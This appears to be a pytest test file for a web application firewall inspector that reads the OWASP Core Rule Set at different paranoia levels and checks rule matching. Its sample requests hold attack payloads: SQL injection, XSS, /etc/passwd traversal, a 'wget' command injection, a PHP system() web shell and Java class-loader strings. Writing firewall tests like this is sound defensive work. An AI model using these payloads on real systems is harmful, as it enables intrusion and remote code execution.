"""What is left out of the Core Rule Set when it is read would have said nothing."""

import re
from dataclasses import replace

import pytest
from gatehouse_inspector.crs.catalogue import read_catalogue
from gatehouse_inspector.crs.files import CrsUnavailableError, Technology, find_crs
from gatehouse_inspector.crs.reading import changes_level, read
from gatehouse_inspector.policies.policy import Exclusion, Mode, Policy
from gatehouse_inspector.policies.seclang import SETTINGS
from gatehouse_inspector.requests.request import Request

USUAL = ((b"host", b"shop.test"), (b"user-agent", b"Mozilla/5.0"), (b"accept", b"*/*"))
FORM = (b"content-type", b"application/x-www-form-urlencoded; charset=utf-8")
REQUESTS = (
    Request(b"GET", b"/?id=1'%20or%20'1'='1&x=%3Cscript%3Ealert(1)%3C/script%3E", USUAL),
    Request(b"GET", b"/a/../../etc/passwd?file=..%2F..%2Fetc%2Fpasswd", USUAL),
    Request(b"GET", b"/shop.bak?q=%27%20--%20-", USUAL),
    Request(b"GET", b"/?a=1&a=2&b=%00%01&c=" + b"x!@#$%25" * 20, (*USUAL, (b"proxy", b"1"))),
    Request(b"GET", b"/?q=cat%20/etc/hosts;wget%20http://a.test", ((b"host", b"10.0.0.1"), (b"user-agent", b"curl/8"))),
    Request(b"POST", b"/?p=1", (*USUAL, FORM), b"text=<?php system($_GET['a']); ?>&t=%{(#a='multipart')}"),
    Request(b"POST", b"/", (*USUAL, FORM), b"class.module.classLoader=java.lang.Runtime&q=select+top+1+from+users"),
    Request(b"GET", b"/?q=a%20plain%20word", USUAL),
)
WHOLE = 'SecAction "id:9500001,phase:2,nolog,pass,setvar:tx.my_paranoia_level=1"'
"""A raw rule that changes nothing, but for all that is known beforehand it might."""


@pytest.fixture(scope="module")
def files():
    try:
        crs = find_crs()
    except CrsUnavailableError as error:
        pytest.skip(f"no rules: {error}")
    return [*crs.files(frozenset(Technology)), *crs.files_of_responses(frozenset(Technology))[1:]]


@pytest.mark.parametrize("level", [1, 2, 3, 4])
def test_every_rule_up_to_the_level_is_read_and_none_above(files, level):
    kept = "".join(read(one, level, SETTINGS) for one in files)
    numbers = set(map(int, re.findall(r"\bid:(\d+)", kept)))
    speaking = read_catalogue(files)
    assert numbers & set(speaking) == {one.rule for one in speaking.values() if one.paranoia <= level}
    assert "EXECUTING_PARANOIA_LEVEL" not in kept


def test_only_settings_that_a_policy_does_not_make_are_made(files):
    setup = read(files[0], 1, frozenset({"allowed_methods"}))
    assert setup.count("setvar:'tx.allowed_http_versions=") == 1
    assert "tx.allowed_methods" not in setup
    assert re.findall(r'SecRule &TX:(\w+) "@eq 0"', setup) == ["crs_setup_version", "executing_paranoia_level"]


@pytest.mark.parametrize("level", [1, 2, 3, 4])
def test_the_engine_says_the_same(inspector, level):
    policy = Policy(Mode.BLOCK, paranoia=level, detection_paranoia=level)
    short, whole = inspector.prepare(policy), inspector.prepare(replace(policy, raw=WHOLE))
    found = [inspector.look(short, one) for one in REQUESTS]
    assert found == [inspector.look(whole, one) for one in REQUESTS]
    assert len({match.rule for verdict in found for match in verdict.matches}) > 10


class TestWhatIsNotKnownBeforehand:
    def test_a_rule_may_change_the_level(self, inspector):
        raised = 'SecAction "id:9500001,phase:1,nolog,pass,setvar:tx.executing_paranoia_level=2"'
        request = Request(b"GET", b"/?q=%27%20--%20-", USUAL)
        usual, more = (inspector.prepare(Policy(Mode.BLOCK, raw=raw)) for raw in ("", raised))
        assert len(inspector.look(more, request).matches) > len(inspector.look(usual, request).matches)

    def test_what_leaves_rules_out_may_be_left_out(self, inspector):
        request = Request(b"GET", b"/?q=%27%20--%20-", USUAL)
        opened = Policy(Mode.BLOCK, exclusions=(Exclusion(rule=942014),))
        found = [inspector.look(inspector.prepare(one), request).matches for one in (opened, Policy(Mode.BLOCK))]
        assert len(found[0]) > len(found[1])

    @pytest.mark.parametrize(
        ("raw", "expected"),
        [
            ("SecRuleRemoveById 942014", True),
            ("SecRuleRemoveById 942001-942099", True),
            ("SecRuleRemoveById 942100 913100", False),
            ("setvar:'tx.%{ARGS_NAMES}=1'", True),
            ("setvar:'tx.seen=%{ARGS.name}'", False),
            ("", False),
        ],
    )
    def test_words_that_may(self, raw, expected):
        assert changes_level(raw) is expected
